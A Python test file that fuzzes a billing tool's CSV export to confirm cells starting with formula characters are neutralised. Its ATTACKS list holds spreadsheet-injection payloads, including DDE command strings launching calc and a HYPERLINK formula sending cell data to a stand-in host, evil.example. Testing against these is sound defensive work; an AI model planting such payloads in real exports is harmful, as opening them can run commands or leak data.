"""
CSV that we write is read as what it says: by a parser cell for cell, by a spreadsheet as text and numbers.

What stands in a tag, a model or a route is anybody's, and the provider opens the file.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from contextlib import redirect_stdout
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

from hypothesis import given
from hypothesis import strategies as st

import tollkeeper
from tests.fuzz import examples
from tests.fuzz.asgi import Caller
from tests.http.conftest import OPERATOR_KEY, World
from tollkeeper.api.csv_cells import FORMULA_STARTS, csv_cell
from tollkeeper.console.output import print_csv

OPERATOR: Final = [(b"authorization", b"Bearer " + OPERATOR_KEY.encode())]
ATTACKS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?x="&A1;"x")',
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "a\r\n=1+1,2",
    "-",
    "=",
    "-١",
)
NUMBER: Final = re.compile(r"-[0-9]+(\.[0-9]+)?")


def as_meant(cell: str) -> str:
    """Return the text that a cell stands for: what was put in front is taken off again."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell


def check_cell(text: str, cell: str) -> None:
    assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), cell
    if not text.startswith("'"):
        assert as_meant(cell) == text


texts: Final = st.sampled_from(ATTACKS) | st.text(st.characters(exclude_categories=("Cs",)))


@examples(200)
@given(st.lists(st.lists(texts, min_size=3, max_size=3), min_size=1, max_size=4))
def test_the_command_lines_csv_is_read_back_cell_for_cell(rows: list[list[str]]) -> None:
    columns = ("=a", "b", "c")
    out = io.StringIO(newline="")
    with redirect_stdout(out):
        print_csv(columns, [dict(zip(columns, row, strict=True)) for row in rows])
    header, *found = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert header == ["'=a", "b", "c"]
    assert len(found) == len(rows)
    for row, cells in zip(rows, found, strict=True):
        for text, cell in zip(row, cells, strict=True):
            check_cell(text, cell)


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_stays_as_it_is(number: float) -> None:
    assert csv_cell(number) == number


@given(st.integers(max_value=-1))
def test_money_below_0_stays_a_number(nanos: int) -> None:
    """It comes as text from JSON."""
    assert csv_cell(str(nanos)) == str(nanos)


def test_usage_over_http_runs_nothing_in_a_spreadsheet(call: Caller, world: World) -> None:
    """Model, route, tag and the name of the tag: all of them are from the events."""
    account = world.a.account
    events: list[dict[str, Any]] = [
        {
            "id": f"csv-{number}",
            "time": "2026-02-01T00:00:00Z",
            "account": account,
            "model": attack,
            "route": attack,
            "tags": {"=name": attack},
            "cost_nanos": 5,
        }
        for number, attack in enumerate(ATTACKS)
    ]
    headers = [*OPERATOR, (b"content-type", b"application/json")]
    told = call("POST", "/tk/v1/events", headers, json.dumps(events).encode()).json
    assert told["accepted"] == len(ATTACKS)
    query = f"account={account}&from=2026-02-01&to=2026-02-02&measures=requests,cost_nanos,kinds"
    group = quote("model,route,tag.=name", safe=",.")
    answer = call("GET", f"/tk/v1/usage?{query}&group_by={group}&format=csv", OPERATOR)
    assert answer.header("content-type") == "text/csv; charset=utf-8"
    assert answer.header("content-disposition").startswith("attachment")
    header, *rows = csv.reader(io.StringIO(answer.body.decode(), newline=""))
    assert header == ["model", "route", "tag:=name", "requests", "cost_nanos", "kinds"]
    assert len(rows) == len(ATTACKS)
    for row in rows:
        assert row[3:5] == ["1", "5"]
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS)
    assert {as_meant(row[0]) for row in rows if not row[0].startswith("''")} >= set(ATTACKS) - {"'=1+1"}


def test_nothing_writes_csv_by_another_way() -> None:
    """A third writer has to take its cells from `csv_cell`, and its place in this test."""
    root = Path(tollkeeper.__file__).parent
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "write_csv")
        if ast.unparse(node.value) in ("csv", "pc", "pa.csv")
    }
    assert writers == {"console/output.py", "api/usage_answer.py"}
